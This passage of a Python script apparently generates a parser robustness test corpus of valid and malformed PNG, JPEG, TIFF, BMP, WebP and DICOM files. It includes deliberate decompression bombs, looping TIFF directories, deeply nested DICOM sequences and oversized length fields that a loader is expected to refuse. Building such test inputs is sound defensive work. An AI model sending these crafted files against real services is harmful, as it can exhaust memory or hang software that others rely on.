        "header_checksum.png": png(crc=1), "short_data.png": png(64, 64, data=b"\0" * 50), "colour_5.png": png(colour=5, data=b"\0" * 39), "depth_3.png": png(depth=3, data=b"\0" * 39),
        "no_palette.png": png(colour=3), "cut_off.jpg": jpeg[:-60], "half.jpg": jpeg[:len(jpeg) // 2], "start_only.jpg": jpeg[:2], "header_only.jpg": jpeg[:30], "bomb.jpg": bytes(huge_jpeg), "two_frames.jpg": jpeg[:2] + small + bytes(huge_jpeg[2:]), "height_0.jpg": bytes(flat),
        "cut_off.webp": webp[:-20], "longer_than_it_says.webp": webp[:4] + struct.pack("<I", 1 << 30) + webp[8:], "bomb.bmp": bytes(huge_bmp), "cut_off.bmp": bmp[:-100], "loop.tiff": loop, "bomb.tiff": tiff_bomb,
        "count_2_32.tiff": counted, "cut_off.tiff": tiff[:40],
    }.items():
        put("picture", f"refused_{name}", data)
    put("picture", "any_more_data_than_pixels.png", png(4, 3, data=b"\0" * (1 << 22)))


# ---- pages and channels ----------------------------------------------------------------------------------------------


def tiff_file(pages, first=8):
    """A TIFF of pages, each a dict of tag -> (type, value or list) and its pixels; `next` overrides where the next lies."""
    out = bytearray(b"II*\0" + struct.pack("<I", 0))
    patch = 4
    for tags, pixels, *following in pages:
        tags = dict(tags)
        tags.setdefault(273, (4, len(out)))
        out += pixels
        entries = b""
        lists = bytearray()
        for tag, (kind, value) in sorted(tags.items()):
            values = value if isinstance(value, list) else [value]
            packed = b"".join(struct.pack("<H" if kind == 3 else "<I", v) for v in values)
            if len(packed) > 4:
                packed, lists = struct.pack("<I", len(out) + len(lists)), lists + packed
            entries += struct.pack("<HHI", tag, kind, len(values)) + packed.ljust(4, b"\0")
        out += lists
        out[patch:patch + 4] = struct.pack("<I", len(out))
        out += struct.pack("<H", len(tags)) + entries
        patch = len(out)
        out += struct.pack("<I", following[0] if following else 0)
    return bytes(out)


def page(width=4, height=3, bits=16, samples=1, planar=1, pixels=None, **more):
    size = width * height * samples * bits // 8  # a bomb's own pixels are given
    planes = samples if planar == 2 else 1
    tags = {256: (4, width), 257: (4, height), 258: (3, [bits] * samples), 259: (3, 1), 262: (3, 1), 277: (3, samples),
            278: (4, height), 279: (4, min(size, 0xFFFFFFFF) if planes == 1 else [size // planes] * planes), 284: (3, planar)}
    tags.update({int(k[1:]): v for k, v in more.items()})
    return tags, bytes(i * 7 % 256 for i in range(size)) if pixels is None else pixels


def picture_all():
    put_all = lambda kind, files: [put("picture_all", f"{kind}_{name}", data) for name, data in files.items()]
    thumbnail = page(2, 2, 8, t254=(4, 1))
    put_all("read", {
        "pages.tiff": tiff_file([page(), page(), page()]), "bytes.tiff": tiff_file([page(bits=8), page(bits=8)]), "five_channels.tiff": tiff_file([page(samples=5)]),
        "two_pages_of_two.tiff": tiff_file([page(samples=2), page(samples=2)]), "thumbnail_between.tiff": tiff_file([page(), thumbnail, page()]),
        "turned_pages.tiff": tiff_file([page(t274=(3, 6)), page(t274=(3, 6))]), "one_page.tiff": tiff_file([page()]),
    })
    loop = tiff_file([page(), page()])
    last = len(loop) - 4
    put_all("refused", {
        "pages_differ.tiff": tiff_file([page(), page(5, 3)]), "bits_differ.tiff": tiff_file([page(), page(bits=8)]), "cut_off.tiff": tiff_file([page(), page()])[:-30],
        "second_page_cut_off.tiff": tiff_file([page(), page(64, 64, pixels=b"")]), "signed_pages.tiff": tiff_file([page(t339=(3, 2)), page(t339=(3, 2))]),
        "fractions.tiff": tiff_file([page(bits=32, t339=(3, 3)), page(bits=32, t339=(3, 3))]), "bomb.tiff": tiff_file([page(60_000, 60_000, pixels=b""), page(60_000, 60_000, pixels=b"")]),
        "channels_65535.tiff": tiff_file([page(samples=1, t277=(3, 65535))]), "loop.tiff": loop[:last] + loop[4:8],
        "planes_of_a_huge_page.tiff": tiff_file([page(samples=3, planar=2, bits=1, t257=(4, 0xFF000003), t277=(3, 0xD603), t258=(3, 1))]),
        "second_directory_nowhere.tiff": loop[:last] + struct.pack("<I", 0x7FFFFFFF), "size_0.tiff": tiff_file([page(0, 3, pixels=b""), page(0, 3, pixels=b"")]),
    })
    wide = tiff_file([page(2, 1, samples=300)])
    put("picture_all", "any_300_channels.tiff", wide)
    put("picture_all", "any_planes.tiff", tiff_file([page(samples=3, planar=2, t273=(4, [8, 32, 56]))]))
    many = b"II*\0" + struct.pack("<I", 8) + b"".join(struct.pack("<HHHIII", 1, 256, 4, 1, 4, 8 + 18 * (i + 1)) for i in range(5000))
    put("picture_all", "refused_5000_pages.tiff", many)


# ---- DICOM -----------------------------------------------------------------------------------------------------------


def element(group, number, vr, value, explicit=True, length=None):
    value = value.encode() if isinstance(value, str) else value
    value += b"\0" * (len(value) % 2)
    length = len(value) if length is None else length
    if not explicit:
        return struct.pack("<HHI", group, number, length) + value
    if vr in ("OB", "OW", "SQ", "UN", "UT"):
        return struct.pack("<HH2sHI", group, number, vr.encode(), 0, length) + value
    return struct.pack("<HH2sH", group, number, vr.encode(), length & 0xFFFF) + value


def dicom_file(syntax="1.2.840.10008.1.2.1", rows=3, columns=4, samples=1, allocated=16, stored=12, high=None, signed=0, photometric="MONOCHROME2",
               frames=None, before=b"", pixels=None, pixel_length=None, more=b""):
    explicit = syntax != "1.2.840.10008.1.2"
    short = lambda number, value: element(0x28, number, "US", struct.pack("<H", value), explicit)
    body = before + short(2, samples) + element(0x28, 4, "CS", photometric, explicit)
    if frames is not None:
        body += element(0x28, 8, "IS", str(frames), explicit)
    body += short(0x10, rows) + short(0x11, columns) + short(0x100, allocated) + short(0x101, stored)
    body += short(0x102, stored - 1 if high is None else high) + short(0x103, signed) + more
    size = rows * columns * samples * allocated // 8 * (frames if isinstance(frames, int) else 1)
    data = bytes(i % 16 if allocated == 16 and i % 2 else i * 7 % 256 for i in range(min(size, 1 << 16))) if pixels is None else pixels
    body += element(0x7FE0, 0x10, "OW", data, explicit, pixel_length)
    meta = element(2, 0x10, "UI", syntax)
    return b"\0" * 128 + b"DICM" + element(2, 0, "UL", struct.pack("<I", len(meta))) + meta + body


def items(*pieces, end=True):
    out = b"".join(struct.pack("<HHI", 0xFFFE, 0xE000, len(p)) + p for p in pieces)
    return out + (struct.pack("<HHI", 0xFFFE, 0xE0DD, 0) if end else b"")


def dicom():
    implicit, rle = "1.2.840.10008.1.2", "1.2.840.10008.1.2.5"
    open_end = 0xFFFFFFFF
    text = lambda number, value: element(0x28, number, "DS", value)
    nested = b""
    for _ in range(40):
        nested = element(8, 0x1140, "SQ", struct.pack("<HHI", 0xFFFE, 0xE000, open_end) + nested + struct.pack("<HHI", 0xFFFE, 0xE00D, 0)
                         + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0), length=open_end)
    sequence = element(8, 0x1140, "SQ", items(element(8, 0x104, "LO", "Planted^Name")), length=open_end)
    unknown = element(9, 0x1001, "UN", items(element(8, 0x104, "LO", "x", False)), length=open_end)
    segments = lambda *s: struct.pack("<I", len(s)) + b"".join(struct.pack("<I", 64 + sum(map(len, s[:i]))) for i in range(len(s))) + b"\0" * (60 - 4 * len(s)) + b"".join(s)
    packed = segments(bytes([245, 1]), bytes([11]) + bytes(range(12)))
    for name, data in {
        "explicit.dcm": dicom_file(), "implicit.dcm": dicom_file(implicit), "bytes.dcm": dicom_file(allocated=8, stored=8), "signed.dcm": dicom_file(signed=1),
        "window.dcm": dicom_file(more=text(0x1050, "40\\80") + text(0x1051, "400\\9")), "window_of_width_0.dcm": dicom_file(more=text(0x1050, "40") + text(0x1051, "0")),
        "rescale.dcm": dicom_file(more=text(0x1052, "-1024") + text(0x1053, "-2.5")), "slope_0.dcm": dicom_file(more=text(0x1053, "0")),
        "frames.dcm": dicom_file(frames=3), "sequence.dcm": dicom_file(before=sequence), "unknown_type.dcm": dicom_file(before=unknown),
        "rgb.dcm": dicom_file(samples=3, allocated=8, stored=8, photometric="RGB"), "rle.dcm": dicom_file(rle, pixels=items(b"", packed), pixel_length=open_end),
        "high_bit.dcm": dicom_file(stored=8, high=11), "more_pixels.dcm": dicom_file(pixels=b"\1" * 100), "one_bit.dcm": dicom_file(stored=1),
    }.items():
        put("dicom", f"read_{name}", data)
    for name, data in {
        "nothing.dcm": b"", "mark_only.dcm": b"\0" * 128 + b"DICM", "no_syntax.dcm": b"\0" * 128 + b"DICM" + element(8, 0x60, "CS", "CT"), "cut_off.dcm": dicom_file()[:-5],
        "no_pixels.dcm": dicom_file()[:-36], "nested_40.dcm": dicom_file(before=nested), "frames_0.dcm": dicom_file(frames=0), "frames_many.dcm": dicom_file(frames="99999999999"),
        "frames_too_many.dcm": dicom_file(frames="2147483647"), "frames_word.dcm": dicom_file(frames="Planted"), "bomb.dcm": dicom_file(rows=65535, columns=65535, pixels=b"\0" * 8),
        "bomb_rle.dcm": dicom_file(rle, rows=65535, columns=65535, pixels=items(b"", packed), pixel_length=open_end), "bits_0.dcm": dicom_file(stored=0, high=0), "bits_17.dcm": dicom_file(stored=17),
        "high_bit_16.dcm": dicom_file(high=16), "high_bit_below.dcm": dicom_file(high=3), "thirty_two_bits.dcm": dicom_file(allocated=32, stored=32), "rows_0.dcm": dicom_file(rows=0, pixels=b"\0" * 8),
        "palette.dcm": dicom_file(photometric="PALETTE COLOR"), "two_samples.dcm": dicom_file(samples=2), "window_word.dcm": dicom_file(more=text(0x1050, "wide") + text(0x1051, "400")),
        "window_infinite.dcm": dicom_file(more=text(0x1050, "1e999") + text(0x1051, "400")), "modality_table.dcm": dicom_file(more=element(0x28, 0x3000, "SQ", items(), length=open_end)),
        "rle_cut_off.dcm": dicom_file(rle, pixels=items(b"", packed[:-6]), pixel_length=open_end), "rle_segments_16.dcm": dicom_file(rle, pixels=items(b"", struct.pack("<I", 16) + packed[4:]), pixel_length=open_end),
        "rle_offsets.dcm": dicom_file(rle, pixels=items(b"", packed[:4] + b"\xff" * 8 + packed[12:]), pixel_length=open_end), "rle_no_end.dcm": dicom_file(rle, pixels=items(b"", packed, end=False), pixel_length=open_end),
        "rle_no_table.dcm": dicom_file(rle, pixels=items(), pixel_length=open_end), "rle_empty_frame.dcm": dicom_file(rle, pixels=items(b"", b""), pixel_length=open_end), "frames_in_one_piece.dcm": dicom_file(rle, frames=2, pixels=items(b"", packed), pixel_length=open_end),
        "jpeg_no_jpeg.dcm": dicom_file("1.2.840.10008.1.2.4.50", allocated=8, stored=8, pixels=items(b"", b"Planted"), pixel_length=open_end), "jpeg_2000.dcm": dicom_file("1.2.840.10008.1.2.4.90"),
        "deflated.dcm": dicom_file("1.2.840.10008.1.2.1.99"), "syntax_text.dcm": dicom_file("Planted^Name"), "length_beyond.dcm": dicom_file(before=element(8, 0x1140, "UN", b"ab", length=0x7FFFFFFF)),
        "no_type.dcm": dicom_file(before=struct.pack("<HH", 8, 8) + b"\1\2\0\0"), "items_of_nothing.dcm": dicom_file(before=element(8, 0x1140, "SQ", b"\0" * 16, length=open_end)),
    }.items():
        put("dicom", f"refused_{name}", data)
    put("dicom", "any_many_elements.dcm", dicom_file(before=element(8, 0x60, "CS", "") * 100_000))


if __name__ == "__main__":
    shutil.rmtree(CORPUS, ignore_errors=True)
    for write in (archives, pickles, safetensors, onnx, data_yaml, yolo, voc, coco, pictures, picture_all, dicom):
        write()
    files = [f for f in CORPUS.rglob("*") if f.is_file()]
    print(f"{len(files)} files, {sum(os.path.getsize(f) for f in files):,} bytes")
